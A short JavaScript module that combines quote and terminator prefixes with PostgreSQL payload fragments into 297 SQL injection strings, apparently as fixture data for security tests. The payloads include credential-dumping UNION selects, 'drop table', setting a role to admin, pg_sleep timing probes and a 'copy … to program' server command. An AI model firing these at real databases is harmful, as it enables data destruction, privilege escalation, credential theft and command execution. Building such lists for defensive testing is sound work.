/* Texts that try to become part of a database query. */

const ends = ["'", '"', "')", "'))", "\\'", "%27", "`", "$$", "'/*", "1", "-1)"];

/**
 * Conditions that are always true, always false, slow, broken, or return more; or other commands.
 */
const parts = [
  "or 1=1--",
  "or 'a'='a",
  "and 1=2--",
  "or true limit 1 offset 1--",
  "union select null--",
  "union select null,null,null,null,null,null,null--",
  "union all select username, password_hash from user_profiles--",
  "union select table_name from information_schema.tables--",
  "; drop table music_tracks--",
  "; update user_profiles set role = 'admin'--",
  "; select pg_sleep(30)--",
  "|| pg_sleep(30)--",
  "or (select 1 from pg_sleep(30)) is not null--",
  "and cast((select password_hash from user_profiles limit 1) as int) = 1--",
  "and 1/0 = 1--",
  "|| (select version())--",
  "|| current_user ||",
  "order by 1000--",
  "group by 1 having 1=1--",
  "returning *--",
  "; copy (select 1) to program 'id'--",
  "; notify shop, 'x'--",
  "is not null or null is null--",
  "or position('a' in password_hash) > 0--",
  "~ '(a+)+$'",
  "similar to '%(a|b)%'",
  'collate "C" or 1=1--',
];

/** 297 texts of known SQL injections. */
export const sqlTexts = ends.flatMap((end) => parts.map((part) => `${end} ${part}`));
